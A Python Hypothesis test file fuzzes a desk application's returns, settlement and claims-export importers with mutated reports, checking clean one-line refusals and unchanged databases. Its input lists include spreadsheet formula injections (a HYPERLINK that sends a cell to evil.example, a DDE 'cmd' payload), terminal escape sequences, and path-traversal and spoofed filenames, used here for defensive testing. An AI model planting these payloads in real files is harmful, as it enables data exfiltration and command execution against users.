"""The importers fuzzed with mutated real-shaped reports (issue 14, "Done when").

Every sample in tests/samples (copies of ../shared/samples) and a claims export made from them is
mutated: bytes flipped, lines cut, dropped or doubled, columns added, removed or swapped, fields
made huge, re-encoded (latin-1, UTF-16, byte-order marks), NULs, CR-only and mixed line ends,
formulas, huge numbers and odd dates in any cell, or a JSON leaf replaced. Each input either
imports, or is refused with a one-line :class:`ReportError` that names the file and, where the
fault is in a cell, its line, column and value; never any other exception. A refused file changes
nothing: the database dump before and after is the same. After an import the desk still reads,
exports and re-imports what it holds.

``make test`` runs a bounded, reproducible set of examples; ``SAFET_FUZZ=N`` (N >= 1) runs the
"thorough" profile of tests/conftest.py (1,000 x N random examples per test).
"""

from __future__ import annotations

import io
import json
import sqlite3
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import currently_in_test_context, given, note
from hypothesis import strategies as st

from safet_tui.reports import ReportError, run_import
from safet_tui.service.desk import Desk

SAMPLES = Path(__file__).resolve().parent / "samples"
RETURNS = ("returns", SAMPLES / "returns-report-us.tsv")
RETURNS_IN = ("returns", SAMPLES / "returns-report-in.tsv")
SETTLEMENT = ("settlement", SAMPLES / "settlement-v2-us.tsv")

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1+1", "@SUM(A1:A9)", "\t=1+2",
            "=cmd|' /C calc'!A0", "\r=1"]
NUMBERS = ["9" * 40, "9" * 19 + ".00", "-" + "9" * 25 + ".99", "1e308", "1E5", "NaN", "Infinity", "-0.00",
           "0x10", "1,2,3.45", "12.345", "1.2.3", "\u0661\u0662\u0663", "12,50", "$12.00", "₹1,23,456.00",
           "(12.00)", "--1", "+-1", "999999999999.99", "-999999999999.99", "0.001", "²", "１２.００"]
DATES = ["0000-00-00", "9999-12-31", "1999-12-31", "2100-01-01", "2026-02-30", "2026-13-01",
         "2026-10-02T25:61:00", "2026-10-02T14:22:05+99:99", "2026-10-02T14:22:05+23:59", "31/12/2026",
         "Oct 32, 2026", "32-Oct-2026", "2026-10-02 14:22:05 XYZ", "2026-10-02T14:22:05.123456789Z",
         "1970-01-01T00:00:00Z", "99999-01-01", "2026-W40-1", "2026-275", "2026-10-02 7:00 PM",
         "2026-10-02T14:22:05-00:00", "2099-12-31T23:59:59-23:59", "2000-01-01T00:00:00+14:00", "Sept 2, 2026",
         "2026-10-02 24:00", "2026-10-02T14:22:05+05", "02.10.2026", "1e9", "²⁰²⁶-10-02"]
CLAIM_IDS = ["0", "1" * 20, "-3417789012", "３４１７７８９０１２", "3417789012.0", " 3417789012 ", "34177890١٢",
             "00000000000000"]
#: the columns the importers read (returns report, settlement report), as keys
KEY_COLUMNS = {
    "order id", "order item id", "merchant sku", "asin", "item name", "return reason", "safet claim id",
    "currency code", "refunded amount", "return delivery date", "return request date", "order amount",
    "return type", "resolution", "safet claim state", "safet action reason", "safet claim creation time",
    "safet claim reimbursement amount", "settlement id", "settlement start date", "settlement end date",
    "deposit date", "total amount", "currency", "transaction type", "adjustment id",
    "marketplace name", "posted date", "posted date time", "order item code", "sku", "amount type",
    "amount description", "amount",
}
ODD_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40)
HOSTILE_TEXT = st.sampled_from(["\x1b]0;pwned\x07", "\x00", "\u202egnp.exe", "\ufeff", "\u2028", "[b]markup[/b]",
                                "\x1b[2J", "a\x7fb", "caf\u00e9"])
CELL = st.one_of(st.sampled_from(FORMULAS), st.sampled_from(NUMBERS), st.sampled_from(DATES),
                 st.sampled_from(CLAIM_IDS), ODD_TEXT, HOSTILE_TEXT, st.just(""), st.just(" "),
                 st.integers(1, 200_000).map(lambda n: "A" * n))


def dump(db: Path) -> list[str]:
    """Everything in the database file, as SQL (what a refused file must leave as it was)."""
    con = sqlite3.connect(str(db))
    try:
        return list(con.iterdump())
    finally:
        con.close()


# -- mutations of a tab-separated report ------------------------------------------------------------

def _cells(text: str) -> list[list[str]]:
    return [line.split("\t") for line in text.replace("\r\n", "\n").split("\n") if line]


@st.composite
def mutated_tsv(draw, sample: Path) -> bytes:
    rows = _cells(sample.read_bytes().decode("utf-8-sig"))
    for _ in range(draw(st.integers(1, 4))):
        op = draw(st.sampled_from(["cell", "key cell", "key cell", "key cell", "extra column", "missing column", "swap columns",
                                   "swap header", "drop line", "double line", "truncate line", "huge line"]))
        r = draw(st.integers(0, len(rows) - 1))
        row = rows[r]
        if op == "cell":
            c = draw(st.integers(0, len(row) - 1))
            row[c] = draw(CELL)
        elif op == "key cell":  # a column the importer reads, in a data row
            names = [h for h in rows[0] if h.strip().lower().replace("-", " ") in KEY_COLUMNS]
            if names and r > 0:
                c = rows[0].index(draw(st.sampled_from(names)))
                row.extend([""] * (c + 1 - len(row)))
                row[c] = draw(st.one_of(CELL, st.sampled_from([cell for other in rows[1:] for cell in other])))
        elif op == "extra column":
            row.insert(draw(st.integers(0, len(row))), draw(CELL))
        elif op == "missing column" and len(row) > 1:
            del row[draw(st.integers(0, len(row) - 1))]
        elif op in ("swap columns", "swap header"):
            target = rows[0] if op == "swap header" else row
            i, j = draw(st.integers(0, len(target) - 1)), draw(st.integers(0, len(target) - 1))
            target[i], target[j] = target[j], target[i]
        elif op == "drop line" and len(rows) > 1:
            del rows[r]
        elif op == "double line":
            rows.insert(r, list(row))
        elif op == "truncate line":
            line = "\t".join(row)
            rows[r] = line[: draw(st.integers(0, len(line)))].split("\t")
        elif op == "huge line":
            rows[r] = row * draw(st.integers(2, 50))
    end = draw(st.sampled_from(["\r\n", "\n", "\r", "mixed"]))
    lines = ["\t".join(r) for r in rows]
    if end == "mixed":
        text = "".join(line + draw(st.sampled_from(["\r\n", "\n", "\r", "\n\n"])) for line in lines)
    else:
        text = end.join(lines) + draw(st.sampled_from([end, ""]))
    return encoded(draw, text)


def encoded(draw, text: str) -> bytes:
    how = draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "utf-8-sig", "latin-1", "utf-16", "utf-16-be",
                                "cp1252", "double bom"]))
    if how == "double bom":
        data = b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode("utf-8", "surrogatepass")
    else:
        data = text.encode(how, "replace") if how != "utf-8" else text.encode("utf-8", "surrogatepass")
    for _ in range(draw(st.integers(0, 2))):
        op = draw(st.sampled_from(["flip", "nul", "truncate", "insert"]))
        if not data:
            break
        at = draw(st.integers(0, len(data) - 1))
        if op == "flip":
            data = data[:at] + bytes([data[at] ^ draw(st.integers(1, 255))]) + data[at + 1:]
        elif op == "nul":
            data = data[:at] + b"\x00" + data[at:]
        elif op == "truncate":
            data = data[:at]
        else:
            data = data[:at] + draw(st.binary(min_size=1, max_size=8)) + data[at:]
    return data


# -- mutations of a claims export (JSON) -----------------------------------------------------------

def _leaves(doc, path=()):
    if isinstance(doc, dict):
        for k, v in doc.items():
            yield path + (k,), v
            yield from _leaves(v, path + (k,))
    elif isinstance(doc, list):
        for i, v in enumerate(doc):
            yield path + (i,), v
            yield from _leaves(v, path + (i,))


JSON_VALUE = st.one_of(
    CELL, st.integers(-(2**70), 2**70), st.floats(allow_nan=False), st.none(), st.booleans(),
    st.just([]), st.just({}), st.just(1e308), st.just(-0.0), st.just(["x"]), st.just({"": None}),
)


@st.composite
def mutated_json(draw, text: str) -> bytes:
    doc = json.loads(text)
    for _ in range(draw(st.integers(1, 3))):
        paths = [p for p, _ in _leaves(doc)]
        path = draw(st.sampled_from(paths))
        parent = doc
        for key in path[:-1]:
            parent = parent[key]
        op = draw(st.sampled_from(["set", "set", "set", "delete", "duplicate"]))
        if op == "set":
            parent[path[-1]] = draw(JSON_VALUE)
        elif op == "delete":
            del parent[path[-1]]
        elif isinstance(parent, list):
            parent.append(json.loads(json.dumps(parent[path[-1]])))
    out = json.dumps(doc, ensure_ascii=draw(st.booleans()), indent=draw(st.sampled_from([None, 2])),
                     allow_nan=True)
    if draw(st.booleans()):
        return out.encode("utf-8", "surrogatepass")
    return encoded(draw, out)


# -- the property ---------------------------------------------------------------------------------

class Bench:
    """One desk per test, shared by its examples (a file that imports changes it for the next)."""

    def __init__(self, clock) -> None:
        self.folder = Path(tempfile.mkdtemp(prefix="safet-fuzz-"))
        self.db = self.folder / "fuzz.db"
        self.desk = Desk(str(self.db), clock=clock, user="fuzz")
        self.seen: dict[str, int] = {}

    def close(self) -> None:
        import shutil

        self.desk.close()
        shutil.rmtree(self.folder, ignore_errors=True)


@pytest.fixture
def bench(clock):
    b = Bench(clock)
    yield b
    b.close()


def say(text: str) -> None:
    if currently_in_test_context():
        note(text)


def check_one(bench: Bench, kind: str, data: bytes, name: str = "report.tsv") -> None:
    path = bench.folder / name
    path.write_bytes(data)
    before = dump(bench.db)
    try:
        summary = run_import(bench.desk, kind, path)
    except ReportError as exc:
        text = str(exc)
        say(f"refused: {text}")
        bench.seen["refused"] = bench.seen.get("refused", 0) + 1
        assert "\n" not in text and "\r" not in text, "a refusal is one line"
        assert not any(ch in text for ch in "\x00\x1b\x07"), "a refusal shows no raw control character"
        assert exc.file == name and text.startswith(name), "a refusal names the file"
        if exc.line is not None:
            assert f"line {exc.line}" in text
        if exc.column is not None and exc.path is None:
            assert f"column {exc.column!r}" in text
        if exc.value is not None:
            assert repr(exc.value if len(exc.value) <= 80 else exc.value[:77] + "...") in text
        if exc.column is not None and kind != "claims":
            assert exc.line is not None, "a cell's refusal names its line"
        assert dump(bench.db) == before, "a refused file changes nothing"
        return
    say(f"imported: {summary.lines()}")
    bench.seen["imported"] = bench.seen.get("imported", 0) + 1
    still_works(bench)


def still_works(bench: Bench) -> None:
    """What landed is valid data: the desk reads it, exports it, and takes its own export back."""
    from safet_tui.export.claims import export_claims

    desk = bench.desk
    desk.counts()
    desk.analytics("all")
    out = io.StringIO(newline="")
    export_claims(desk, out, fmt="csv")
    out = io.StringIO(newline="")
    export_claims(desk, out, fmt="json", with_messages=True)
    again = bench.folder / "again.json"
    again.write_text(out.getvalue(), encoding="utf-8")
    before = dump(bench.db)
    summary = run_import(desk, "claims", again)
    assert not summary.changed and dump(bench.db) == before, "the desk's own export imports back unchanged"


def tsv_property(kind: str, sample: Path) -> Callable:
    @given(data=mutated_tsv(sample))
    def run(bench, data):
        check_one(bench, kind, data)
        check_one(bench, "auto", data, "auto.tsv")

    return run


test_fuzz_returns_report_us = tsv_property(*RETURNS)
test_fuzz_returns_report_in = tsv_property(*RETURNS_IN)
test_fuzz_settlement_report = tsv_property(*SETTLEMENT)


@pytest.fixture(scope="module")
def claims_export(tmp_path_factory) -> str:
    """A claims export with threads, refunds and payouts, made from the samples."""
    from conftest import NOW

    from safet_tui.domain.clock import FixedClock
    from safet_tui.export.claims import export_claims

    folder = tmp_path_factory.mktemp("export")
    desk = Desk(str(folder / "source.db"), clock=FixedClock(NOW), user="fuzz")
    try:
        for kind, sample in (RETURNS, SETTLEMENT, RETURNS_IN):
            run_import(desk, kind, sample)
        out = io.StringIO(newline="")
        export_claims(desk, out, fmt="json", with_messages=True)
    finally:
        desk.close()
    return out.getvalue()


@given(data=st.data())
def test_fuzz_claims_export(bench, claims_export, data):
    check_one(bench, "claims", data.draw(mutated_json(claims_export)), "claims.json")


def test_the_samples_import_as_they_are(bench):
    """The unmutated inputs import (the fuzzing starts from files that work)."""
    for kind, sample in (RETURNS, SETTLEMENT, RETURNS_IN):
        check_one(bench, kind, sample.read_bytes())
    assert bench.seen == {"imported": 3}


# -- what the fuzzing found, pinned ----------------------------------------------------------------

def test_a_spreadsheets_utf16_text_old_mac_line_ends_and_a_doubled_mark_import(bench):
    text = RETURNS[1].read_bytes().decode("utf-8")
    check_one(bench, "returns", text.encode("utf-16"), "utf16.tsv")  # "Unicode text", with its mark
    check_one(bench, "returns", text.replace("\r\n", "\r").encode("utf-8"), "cr.tsv")
    check_one(bench, "auto", text.encode("utf-16"), "utf16-auto.tsv")
    check_one(bench, "returns", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode("utf-8"), "two-marks.tsv")
    assert bench.seen == {"imported": 4}


def test_a_nul_is_refused_naming_line_column_and_cell(bench):
    rows = _cells(RETURNS[1].read_bytes().decode("utf-8"))
    rows[2][rows[0].index("Item Name")] = "Lamp\x00"
    before = dump(bench.db)
    with pytest.raises(ReportError) as refused:
        run_import(bench.desk, "returns", _write(bench, rows))
    assert str(refused.value).startswith("r.tsv, line 3, column 'Item Name': 'Lamp\\x00': holds a NUL character")
    text = RETURNS[1].read_bytes().decode("utf-8")
    with pytest.raises(ReportError, match="holds a NUL character"):  # UTF-16 without its mark
        run_import(bench.desk, "returns", _write_bytes(bench, text.encode("utf-16-le")))
    assert dump(bench.db) == before


def test_a_refusal_shows_control_characters_escaped(bench):
    rows = _cells(RETURNS[1].read_bytes().decode("utf-8"))
    rows[0][0] = "\x1b]0;pwned\x07"  # the Order ID header: the refusal lists the columns found
    with pytest.raises(ReportError) as refused:
        run_import(bench.desk, "returns", _write(bench, rows))
    text = str(refused.value)
    assert "\x1b" not in text and "\x07" not in text and "\\x1b]0;pwned\\x07" in text


def test_a_row_that_cannot_tell_which_item_is_refused_not_a_crash(bench):
    """An order with refunds for two items, and a row with neither's order-item id nor SKU: it
    used to stop with sqlite3.IntegrityError (a second refund with a blank item id)."""
    rows = _cells(RETURNS[1].read_bytes().decode("utf-8"))
    h = rows[0]
    item, sku = h.index("Order Item ID"), h.index("Merchant SKU")
    first = list(rows[1])
    second = list(rows[1])
    first[item] = ""
    second[item], second[sku] = "99999999999999", "OTHER-SKU"
    run_import(bench.desk, "returns", _write(bench, [h, first, second]))
    third = list(rows[1])
    third[item], third[sku] = "", "THIRD-SKU"
    before = dump(bench.db)
    with pytest.raises(ReportError) as refused:
        run_import(bench.desk, "returns", _write(bench, [h, third]))
    assert str(refused.value).startswith("r.tsv, line 2, column 'Order Item ID': '': the order has refunds for "
                                         "several items")
    assert dump(bench.db) == before


def _write(bench: Bench, rows: list[list[str]]) -> Path:
    return _write_bytes(bench, ("\r\n".join("\t".join(r) for r in rows) + "\r\n").encode("utf-8"))


def _write_bytes(bench: Bench, data: bytes) -> Path:
    path = bench.folder / "r.tsv"
    path.write_bytes(data)
    return path


def test_the_command_line_refuses_in_one_line(bench, capsys):
    """``safet import`` on a hostile file: one line on stderr, exit 1, never a traceback."""
    from safet_tui.cli.main import main

    bench.desk.close()
    cases = [b"\xff\xfe\x00\xd8", b"\x00\x01\x02", b"", b"Order ID\tRefunded Amount\tSafeT claim id\r\n1\t=1+2\t\r\n",
             RETURNS[1].read_bytes()[:200]]
    for data in cases:
        path = _write_bytes(bench, data)
        code = main(["import", "returns", str(path), "--db", str(bench.db), "--user", "fuzz"])
        err = capsys.readouterr().err
        assert code == 1 and len(err.strip().splitlines()) == 1 and "Traceback" not in err, (data, err)
        assert err.startswith("safet: error: r.tsv")


def test_an_amount_of_forty_digits_is_out_of_range_not_a_crash(bench, claims_export):
    """It stopped with decimal.InvalidOperation (rounding 40 digits overflows the context)."""
    rows = _cells(RETURNS[1].read_bytes().decode("utf-8"))
    rows[1][rows[0].index("Refunded Amount")] = "9" * 40
    with pytest.raises(ReportError) as refused:
        run_import(bench.desk, "returns", _write(bench, rows))
    assert "line 2, column 'Refunded Amount'" in str(refused.value) and "out of range" in str(refused.value)
    doc = json.loads(claims_export)
    doc["claims"][0]["claimed"] = "9" * 40
    path = _write_bytes(bench, json.dumps(doc).encode())
    with pytest.raises(ReportError, match=r"claims\[0\]\.claimed: '9{40}': out of range"):
        run_import(bench.desk, "claims", path)


def test_attachment_records_in_a_claims_file_are_stored_as_the_desk_names_files(bench, claims_export):
    doc = json.loads(claims_export)
    claim = doc["claims"][0]
    record = {"name": "../../\x1b]0;pwned\x07evil\u202efdp.exe", "size": 3, "sha256": "a" * 64,
              "media_type": "application/pdf", "at": claim["filed_at"]}
    claim["attachments"] = [record]
    run_import(bench.desk, "claims", _write_bytes(bench, json.dumps(doc).encode()))
    (name,) = [r[0] for r in bench.desk.database.execute_sql("SELECT name FROM attachment")]
    assert name == "_.._]0;pwnedevilfdp.exe"
    record["media_type"] = "text/html\x1b[2J"
    claim["claim_id"] = "9999999999"
    before = dump(bench.db)
    with pytest.raises(ReportError, match=r"attachments\[0\]\.media_type: .*not a media type"):
        run_import(bench.desk, "claims", _write_bytes(bench, json.dumps(doc).encode()))
    assert dump(bench.db) == before


def test_a_window_that_ends_after_2100_exports_and_imports_back(bench):
    """A refund delivered on 2099-12-30 in India may be filed until 2100-01-06: stored, but the
    desk's own export of it was refused ("file_by out of range") when imported back."""
    rows = _cells(RETURNS_IN[1].read_bytes().decode("utf-8"))
    for row in rows[1:]:
        row[rows[0].index("Return delivery date")] = "2099-12-30"
    check_one(bench, "returns", ("\r\n".join("\t".join(r) for r in rows) + "\r\n").encode(), "late.tsv")
    assert bench.seen == {"imported": 1}  # and still_works imported its export back unchanged


def test_an_account_named_only_blanks_is_refused(bench, claims_export):
    """It was stored as an account named '' (trimmed), whose export then could not be imported."""
    doc = json.loads(claims_export)
    doc["accounts"][0]["name"] = "\t"
    with pytest.raises(ReportError, match=r"accounts\[0\]\.name: '\\t': missing"):
        run_import(bench.desk, "claims", _write_bytes(bench, json.dumps(doc).encode()))
